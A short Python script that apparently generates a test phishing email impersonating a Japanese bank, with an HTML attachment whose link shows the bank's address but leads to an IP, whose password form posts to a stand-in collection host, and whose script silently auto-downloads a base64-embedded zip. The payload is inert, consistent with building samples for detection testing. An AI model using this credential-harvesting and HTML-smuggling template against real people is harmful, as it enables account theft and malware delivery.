"""A page that shows one address and leads to another, asks for a password and builds a file."""
import base64
from kit import *

PAGE = """<html><body><p>口座の確認が必要です。</p>
<a href="http://203.0.113.77/login/">https://www.bank.example.jp/</a>
<form action="http://collect.example.invalid/x"><input type="password" name="p"></form>
<script>var d = "%s"; var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]);
var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "statement.zip"; a.click();</script>
</body></html>"""


def make():
    page = PAGE % base64.b64encode(Zip().add("x.txt", b"inert " * 900, stored=True).bytes()).decode()
    return (Mail("口座の確認のお願い", "info@bank.example.jp", name="例示銀行").text("添付をご確認ください。\n")
            .attach("確認.html", page.encode(), "text/html").bytes())
